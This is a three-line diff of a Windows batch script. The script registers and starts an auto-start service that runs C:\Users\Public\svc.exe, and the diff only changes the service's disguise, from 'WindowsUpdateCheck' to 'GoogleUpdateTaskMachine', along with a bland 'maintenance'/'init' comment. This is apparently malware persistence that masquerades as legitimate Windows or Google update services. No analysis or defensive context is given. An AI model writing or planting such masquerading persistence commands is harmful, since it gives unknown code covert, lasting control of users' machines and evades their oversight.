@@ -1,3 +1,3 @@
-REM maintenance 1252 v1
-sc create WindowsUpdateCheck binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
-sc start WindowsUpdateCheck
+REM init 8504 v1
+sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
+sc start GoogleUpdateTaskMachine
